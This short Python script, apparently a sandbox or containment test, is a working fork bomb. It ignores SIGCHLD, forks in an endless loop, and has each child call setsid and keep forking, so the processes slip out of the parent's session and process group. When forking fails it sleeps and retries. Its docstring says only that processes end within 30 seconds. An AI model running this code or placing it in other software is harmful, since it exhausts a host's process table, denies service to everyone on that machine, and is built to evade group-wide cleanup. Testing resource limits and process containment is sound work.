"""Fork in sessions of their own, each child twice again, so that each is the first of a group and none is a child of the script.

Ends: processes within 30 s.
"""

import os
import signal
import time

signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        time.sleep(0.05)
